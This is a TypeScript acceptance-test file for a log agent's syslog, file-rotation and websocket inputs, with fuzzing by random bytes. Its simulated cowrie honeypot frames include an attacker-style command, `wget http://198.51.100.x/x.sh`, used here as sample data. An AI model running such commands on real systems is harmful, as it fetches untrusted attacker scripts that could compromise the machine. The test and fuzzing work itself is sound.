// Acceptance checks of the log inputs (syslog, file, websocket), checked from outside with the
// compiled executable: it runs as its own process in an empty folder, real clients (loggen,
// logrotate, a websocket server) feed it, and the reference receiver shows what arrived.
// Runs when CYBEXP_E2E_BINARY names the executable (npm run test:e2e, .ci/run).
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { randomBytes, randomInt } from "node:crypto";
import { createSocket } from "node:dgram";
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { join } from "node:path";
import { describe, test } from "node:test";
import { WebSocketServer, type WebSocket } from "ws";
import type { SyslogEvent } from "../../plugins/syslog/parse.ts";
import { until } from "../testing/until.ts";
import { Arrivals, canonical, differences, pause, referenceReceiver, runAgent, settle, skip, type RunningAgent } from "../testing/e2e.ts";

const LOGGEN = ["/usr/bin/loggen", "/usr/sbin/loggen"].find((p) => existsSync(p));
const LOGROTATE = ["/usr/sbin/logrotate", "/sbin/logrotate", "/usr/bin/logrotate"].find((p) => existsSync(p));

// ---- syslog -----------------------------------------------------------------------------------

/** The keys of every syslog event (DESIGN.md, event shapes): absent fields are null, never left out. */
const SYSLOG_KEYS = ["appname", "facility", "format", "hostname", "message", "msgid", "procid", "severity", "source_ip", "structured_data", "timestamp", "transport"];

function loggen(args: string[]): Promise<string> {
  return new Promise((res, rej) =>
    execFile(LOGGEN!, args, { timeout: 60_000 }, (err, stdout, stderr) => (err ? rej(new Error(`loggen ${args.join(" ")}: ${stderr || err}`)) : res(stderr + stdout))),
  );
}

function tcpSend(port: number, chunks: Array<string | Uint8Array>): Promise<void> {
  return new Promise((res, rej) => {
    const s = connect(port, "127.0.0.1", async () => {
      for (const c of chunks) if (!s.write(c)) await new Promise((r) => s.once("drain", r));
      s.end(res);
    });
    s.once("error", rej);
  });
}

/** Random bytes in random-sized writes; the agent may drop the connection, which is fine here. */
function tcpJunk(port: number, bytes: Uint8Array): Promise<void> {
  return new Promise((res) => {
    const s: Socket = connect(port, "127.0.0.1", async () => {
      for (let at = 0; at < bytes.length && !s.destroyed; ) {
        const n = randomInt(1, 16_385);
        if (!s.write(bytes.subarray(at, at + n))) await new Promise((r) => { s.once("drain", r); s.once("close", r); });
        at += n;
      }
      s.end();
    });
    s.on("error", () => {});
    s.once("close", () => res());
  });
}

async function udpSend(port: number, datagrams: Array<string | Uint8Array>, every = 50): Promise<void> {
  const u = createSocket("udp4");
  try {
    for (let i = 0; i < datagrams.length; i++) {
      await new Promise<void>((res, rej) => u.send(datagrams[i]!, port, "127.0.0.1", (err) => (err ? rej(err) : res())));
      // paced, so that the kernel's receive buffer is not what is being tested
      if (i % every === every - 1) await pause(5);
    }
  } finally {
    u.close();
  }
}

const ISO_WITH_OFFSET = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?([+-]\d\d:\d\d|Z)$/;

function seqOf(e: SyslogEvent): string {
  const m = /^seq: (\d{10}), thread: \d+, runid: \d+, stamp: /.exec(e.message ?? "");
  assert.ok(m, `loggen message text parsed: ${JSON.stringify(e)}`);
  return m[1]!;
}

function assertLoggenEvent(e: SyslogEvent, format: SyslogEvent["format"], transport: SyslogEvent["transport"]): void {
  const where = JSON.stringify(e);
  assert.equal(e.format, format, where);
  assert.equal(e.transport, transport, where);
  assert.equal(e.source_ip, "127.0.0.1", where);
  assert.match(e.appname ?? "", /^prg\d{5}$/, where);
  assert.match(e.procid ?? "", /^\d+$/, where);
  assert.match(e.hostname ?? "", /^[^\s]+$/, where);
  assert.equal(e.msgid, null, where);
  assert.deepEqual([e.facility, e.severity], [4, 6], where); // loggen sends <38>: user.info
  assert.match(e.timestamp ?? "", ISO_WITH_OFFSET, where);
}

describe("compiled binary: log inputs", { skip }, () => {
  test("syslog: loggen over TCP (RFC 5424 octet counting, RFC 3164 LF) and UDP arrives parsed; random bytes do not kill it", { skip: LOGGEN ? false : "loggen is not installed (apt-get install syslog-ng-core)" }, async () => {
    const receiver = await referenceReceiver();
    const agent = await runAgent(receiver, `[inputs.syslog]
type = "syslog"
typetag = "syslog"
listen = ["tcp://127.0.0.1:0", "udp://127.0.0.1:0"]
`);
    try {
      let listening: string[] = [];
      await until(async () => {
        const s = (await agent.status()).inputs.find((i) => i.name === "syslog");
        listening = (s?.listening as string[] | undefined) ?? [];
        return listening.length === 2;
      }, "the syslog listeners in /status", 20_000);
      const portOf = (proto: string) => Number(listening.find((l) => l.startsWith(`${proto}://`))!.split(":").at(-1));
      const tcp = portOf("tcp");
      const udp = portOf("udp");
      const arrivals = new Arrivals(receiver, "syslog");

      // RFC 3164 with BSD timestamps ("Mmm dd hh:mm:ss"), which loggen's own legacy format lacks,
      // sent by loggen as they are from a file, LF-framed
      const bsd = Array.from({ length: 500 }, (_, i) =>
        `<86>Nov 27 10:${String(Math.floor(i / 60) % 60).padStart(2, "0")}:${String(i % 60).padStart(2, "0")} bsd-host-${i % 7} sshd[${2000 + i}]: Failed password for root from 198.51.100.${i % 250} port ${40000 + i} ssh2 bsdseq=${i}`);
      writeFileSync(join(agent.dir, "bsd.log"), bsd.join("\n") + "\n");

      await loggen(["--inet", "--dgram", "--rate", "1000", "--number", "2000", "127.0.0.1", String(udp)]);
      await loggen(["--inet", "--stream", "--syslog-proto", "--sdata", '[origin@32473 ip="192.0.2.1" software="loggen"]', "--size", "200", "--rate", "200000", "--number", "20000", "127.0.0.1", String(tcp)]);
      await loggen(["--inet", "--stream", "--rate", "200000", "--number", "5000", "127.0.0.1", String(tcp)]);
      await loggen(["--inet", "--stream", "--read-file", join(agent.dir, "bsd.log"), "--dont-parse", "127.0.0.1", String(tcp)]);
      // loggen's RFC 5424 text starts with a BOM; these two make sure a BOM is seen on both transports
      const bomTcp = '<165>1 2026-11-27T10:00:00.003Z bom.example.com evntslog 42 ID47 [exampleSDID@32473 iut="3"] \uFEFFBOM over TCP';
      await tcpSend(tcp, [`${new TextEncoder().encode(bomTcp).length} ${bomTcp}`]);
      await udpSend(udp, ["<165>1 2026-11-27T10:00:00.003Z bom.example.com evntslog 42 ID47 - \uFEFFBOM over UDP"]);

      const total = 2000 + 20_000 + 5000 + bsd.length + 2;
      await settle([[arrivals, total]], { ms: 40_000 });
      const events = (await arrivals.lines()).map((l) => JSON.parse(l) as SyslogEvent);
      const group = (p: (e: SyslogEvent) => boolean) => events.filter(p);
      const viaUdp = group((e) => e.transport === "udp" && /^prg/.test(e.appname ?? ""));
      const r5424 = group((e) => e.transport === "tcp" && e.format === "rfc5424" && /^prg/.test(e.appname ?? ""));
      const r3164 = group((e) => e.transport === "tcp" && e.format === "rfc3164" && /^prg/.test(e.appname ?? ""));
      const bsdEvents = group((e) => e.appname === "sshd");
      const bom = group((e) => e.appname === "evntslog");
      assert.deepEqual(
        { total: events.length, udp: viaUdp.length, tcp5424: r5424.length, tcp3164: r3164.length, bsd: bsdEvents.length, bom: bom.length },
        { total, udp: 2000, tcp5424: 20_000, tcp3164: 5000, bsd: bsd.length, bom: 2 },
        `what arrived of what was sent (${JSON.stringify((await agent.status()).inputs)})`,
      );

      for (const e of events) {
        assert.deepEqual(Object.keys(e).sort(), SYSLOG_KEYS, `event keys: ${JSON.stringify(e)}`);
        assert.ok(!e.message?.startsWith("\uFEFF"), `BOM left at the start of the message: ${JSON.stringify(e)}`);
      }
      for (const e of viaUdp) assertLoggenEvent(e, "rfc3164", "udp");
      for (const e of r3164) assertLoggenEvent(e, "rfc3164", "tcp");
      for (const e of r5424) {
        assertLoggenEvent(e, "rfc5424", "tcp");
        assert.deepEqual(e.structured_data, { "origin@32473": { ip: "192.0.2.1", software: "loggen" } });
      }
      // every message of each loggen run arrived once
      assert.equal(new Set(viaUdp.map(seqOf)).size, 2000, "UDP seq numbers");
      assert.equal(new Set(r5424.map(seqOf)).size, 20_000, "RFC 5424 seq numbers");
      assert.equal(new Set(r3164.map(seqOf)).size, 5000, "RFC 3164 seq numbers");

      const bsdBySeq = new Map(bsdEvents.map((e) => [Number(/bsdseq=(\d+)$/.exec(e.message ?? "")?.[1]), e]));
      assert.equal(bsdBySeq.size, bsd.length, "every BSD-timestamp line once");
      for (const [i, e] of bsdBySeq) {
        assert.deepEqual(
          [e.format, e.transport, e.source_ip, e.facility, e.severity, e.hostname, e.appname, e.procid, e.msgid],
          ["rfc3164", "tcp", "127.0.0.1", 10, 6, `bsd-host-${i % 7}`, "sshd", String(2000 + i), null],
          JSON.stringify(e),
        );
        assert.match(e.timestamp ?? "", /^\d{4}-11-27T10:\d\d:\d\d(\.0+)?(\+00:00|Z)$/, JSON.stringify(e));
        assert.equal(e.message, `Failed password for root from 198.51.100.${i % 250} port ${40000 + i} ssh2 bsdseq=${i}`);
      }
      const bomMessages = bom.map((e) => [e.transport, e.format, e.hostname, e.procid, e.msgid, e.message]).sort();
      assert.deepEqual(bomMessages, [
        ["tcp", "rfc5424", "bom.example.com", "42", "ID47", "BOM over TCP"],
        ["udp", "rfc5424", "bom.example.com", "42", "ID47", "BOM over UDP"],
      ]);

      // ---- malformed input: random bytes, random datagrams, a length header claiming ~1 GB
      const junkTcp = Array.from({ length: 8 }, (_, i) => {
        const b = randomBytes(128 * 1024);
        if (i % 2 === 0) b[0] = 0x39; // a leading digit: read as octet counting
        return b;
      });
      await Promise.all(junkTcp.map((b) => tcpJunk(tcp, b)));
      const junkUdp = Array.from({ length: 1000 }, () => randomBytes(randomInt(0, 4097)));
      await udpSend(udp, [...junkUdp, new Uint8Array(0)]);
      await tcpSend(tcp, ["999999999 <13>1 2026-11-27T10:00:00Z host app - - - a frame far shorter than it claims"]);
      await pause(500);
      assert.ok(agent.running(), `the agent died on malformed input: ${agent.log()}`);
      const health = await fetch(`${agent.url}/health`);
      assert.equal(health.status, 200, `/health after malformed input: ${await health.text()}`);

      const good = Array.from({ length: 50 }, (_, i) => i);
      await tcpSend(tcp, good.map((i) => `<14>Nov 27 10:00:00 after-host after[7]: after junk tcp ${i}\n`));
      await udpSend(udp, good.map((i) => `<14>1 2026-11-27T10:00:00Z after-host after 7 - - after junk udp ${i}`));
      const wanted = [...good.map((i) => `tcp after junk tcp ${i}`), ...good.map((i) => `udp after junk udp ${i}`)];
      const after = async () => (await arrivals.lines()).map((l) => JSON.parse(l) as SyslogEvent).filter((e) => e.appname === "after");
      const shortFrame = async () => (await arrivals.lines()).some((l) => l.includes("a frame far shorter than it claims"));
      const end = Date.now() + 20_000;
      while (((await after()).length < wanted.length || !(await shortFrame())) && Date.now() < end) await pause(50);
      const afterEvents = await after();
      assert.ok(await shortFrame(), "the text after a length header claiming 999999999 bytes arrives when its connection closes");
      const diff = differences(afterEvents.map((e) => `${e.transport} ${e.message}`), wanted);
      assert.equal(diff, "", `the 100 messages sent after the malformed input: ${diff}`);
      for (const e of afterEvents) {
        assert.deepEqual([e.hostname, e.procid, e.source_ip, e.format], ["after-host", "7", "127.0.0.1", e.transport === "tcp" ? "rfc3164" : "rfc5424"]);
      }
      // whatever the agent made of the random bytes, every event has the contract's shape
      let raw = 0;
      for (const l of await arrivals.lines()) {
        const e = JSON.parse(l) as SyslogEvent;
        assert.deepEqual(Object.keys(e).sort(), SYSLOG_KEYS, `event keys: ${l.slice(0, 300)}`);
        assert.ok(["rfc5424", "rfc3164", "raw"].includes(e.format), l.slice(0, 300));
        if (e.format === "raw") raw++;
      }
      assert.ok(raw > 0, "the random bytes reached the parser (as raw messages)");
      assert.ok(agent.running(), `the agent is still running: ${agent.log()}`);
    } finally {
      await agent.stop();
      await receiver.close();
    }
  });

  // ---- file ------------------------------------------------------------------------------------

  test("file: logrotate rotates four times by rename+create and once by copytruncate while lines are written; a late file appears; every line arrives once", { skip: LOGROTATE ? false : "logrotate is not installed (apt-get install logrotate)" }, async () => {
    const receiver = await referenceReceiver();
    const agent = await runAgent(receiver, `[inputs.app]
type = "file"
typetag = "app-log"
paths = ["./logs/app*.log"]
`, (dir) => {
      mkdirSync(join(dir, "logs"));
      writeFileSync(join(dir, "logs", "app.log"), "");
    });
    try {
      const logs = join(agent.dir, "logs");
      const app = join(logs, "app.log");
      const conf = (mode: string) => {
        const path = join(agent.dir, `logrotate-${mode}.conf`);
        writeFileSync(path, `${app} {\n  rotate 20\n  ${mode}\n  missingok\n  nocompress\n}\n`);
        return path;
      };
      const createConf = conf("create");
      const truncConf = conf("copytruncate");
      const rotate = (confPath: string) =>
        new Promise<void>((res, rej) =>
          execFile(LOGROTATE!, ["-f", "-s", join(agent.dir, "logrotate.state"), confPath], (err, _o, stderr) => (err ? rej(new Error(`logrotate: ${stderr || err}`)) : res())),
        );
      const arrivals = new Arrivals(receiver, "app");

      const line = (i: number) => `2026-11-27T10:00:00Z app[42]: request seq=${String(i).padStart(6, "0")} path=/api/v1/items/${i % 977} status=200`;
      const written: string[] = [];
      let paused = false;
      let writing = true;
      let beforeTruncate = "";
      const late = Array.from({ length: 1000 }, (_, i) => `2026-11-27T10:05:00Z app-late[43]: late seq=${i}`);
      // a steady writer that opens the path for every write, as a logger that reopens after rotation
      const writer = (async () => {
        for (let i = 0; writing; ) {
          while (paused) await pause(2);
          const chunk: string[] = [];
          for (const end = i + 50; i < end; i++) chunk.push(line(i));
          appendFileSync(app, chunk.join("\n") + "\n");
          written.push(...chunk);
          await pause(10);
        }
      })();
      try {
        // Rotations 0.8 s apart, under glob_interval (1 s): the agent notices each new app.log
        // at the end of the old one (within poll_interval), not at the next listing. A file that
        // lived under the glob for less than poll_interval could not be seen at all.
        for (let r = 0; r < 4; r++) {
          await pause(800);
          await rotate(createConf);
        }
        // The copy (app.log.1) is outside the glob, so lines the agent has not read when
        // logrotate truncates are in neither file it follows; logrotate's manual names this
        // window. The writer holds still and the agent catches up first, as a careful
        // operator's copytruncate would have it.
        await pause(2000);
        paused = true;
        await pause(50);
        const upTo = written.length;
        // not failing here: the final comparison names what is missing
        await settle([[arrivals, upTo]], { ms: 20_000 });
        beforeTruncate = differences(await arrivals.lines(), written.slice(0, upTo));
        await rotate(truncConf);
        paused = false;
        // a second file appears under the glob while the first is still being written
        await pause(300);
        for (let i = 0; i < late.length; i += 100) {
          appendFileSync(join(logs, "app-late.log"), late.slice(i, i + 100).join("\n") + "\n");
          await pause(100);
        }
      } finally {
        writing = false;
        paused = false;
        await writer;
      }

      const expected = [...written, ...late];
      await settle([[arrivals, expected.length]]);
      const got = await arrivals.lines();
      const diff = differences(got, expected);
      if (diff) assert.fail(`${expected.length} lines written, ${got.length} arrived: ${diff}` +
        (beforeTruncate ? ` (before copytruncate, after the four renames, already: ${beforeTruncate})` : "") +
        `; files now: ${whereLinesAre(logs, got)}`);
      assert.equal(got.length, expected.length);
      assert.deepEqual(new Set(got), new Set(expected));

      const rotated = readdirSync(logs).filter((f) => /^app\.log\.\d+$/.test(f));
      assert.equal(rotated.length, 5, `logrotate rotated five times: ${readdirSync(logs).join(" ")}`);
    } finally {
      await agent.stop();
      await receiver.close();
    }
  });

  /** "app.log.2: 3250 lines, 0 arrived; ..." — which rotated file the missing lines ended up in. */
  function whereLinesAre(dir: string, got: string[]): string {
    const arrived = new Set(got);
    return readdirSync(dir).sort().map((f) => {
      const ls = readFileSync(join(dir, f), "utf8").split("\n").filter(Boolean);
      return `${f}: ${ls.length} lines, ${ls.filter((l) => arrived.has(l)).length} arrived`;
    }).join("; ");
  }

  // ---- websocket ------------------------------------------------------------------------------

  test("websocket: 5,000 JSON frames with the connection dropped halfway; every frame arrives", async () => {
    const total = 5000;
    const half = total / 2;
    const frames = Array.from({ length: total }, (_, i) => ({
      "@timestamp": new Date(Date.UTC(2026, 10, 27, 10, 0, 0, i)).toISOString(),
      eventid: i % 3 === 0 ? "cowrie.login.failed" : "cowrie.command.input",
      session: `s${Math.floor(i / 10).toString(16).padStart(8, "0")}`,
      src_ip: `203.0.113.${i % 250}`,
      input: i % 3 === 0 ? null : `wget http://198.51.100.${i % 200}/x.sh`,
      seq: i,
    }));
    const wss = new WebSocketServer({ host: "127.0.0.1", port: 0 });
    await new Promise<void>((r) => wss.once("listening", () => r()));
    const port = (wss.address() as { port: number }).port;
    let connections = 0;
    const send = (ws: WebSocket, from: number, to: number) =>
      new Promise<void>((res, rej) => {
        for (let i = from; i < to; i++) {
          const last = i === to - 1;
          ws.send(JSON.stringify(frames[i]), last ? (err) => (err ? rej(err) : res()) : undefined);
        }
      });
    const halves = { first: false, second: false };
    let serverError = "";
    wss.on("connection", async (ws) => {
      const n = ++connections;
      ws.on("error", () => {});
      try {
        if (n === 1) {
          await send(ws, 0, half);
          halves.first = true;
          ws.terminate(); // dropped without a closing handshake
        } else if (n === 2) {
          // the second half only once the agent is back: frames sent into the gap are lost by design
          await send(ws, half, total);
          halves.second = true;
        }
      } catch (err) {
        serverError = String(err);
      }
    });

    const receiver = await referenceReceiver();
    let agent: RunningAgent | undefined;
    try {
      agent = await runAgent(receiver, `[inputs.honeypot]
type = "websocket"
typetag = "cowrie"
url = "ws://127.0.0.1:${port}/events"
reconnect_min = "200ms"
reconnect_max = "2s"
`);
      const arrivals = new Arrivals(receiver, "honeypot");
      await until(() => halves.second || serverError !== "", "the agent to reconnect and the server to send the second half", 30_000);
      assert.equal(serverError, "", "the server sent every frame");
      await settle([[arrivals, total]]);
      const got = await arrivals.lines();
      const sent = frames.map((f) => JSON.stringify(f));
      // a JSON object frame is sent as it arrived; compare as objects, independent of key spacing
      const normalised = got.map(canonical);
      const diff = differences(normalised, sent);
      assert.equal(diff, "", `${total} frames sent (${half} before the drop, ${connections} connections), ${got.length} arrived: ${diff}`);
      assert.equal(got.length, total);
      const status = (await agent.status()).inputs.find((i) => i.name === "honeypot")!;
      assert.equal(status.disconnects, 1, `one disconnect in /status: ${JSON.stringify(status)}`);
      assert.equal(status.connected, true);
    } finally {
      await agent?.stop();
      for (const c of wss.clients) c.terminate();
      await new Promise((r) => wss.close(r));
      await receiver.close();
    }
  });
});
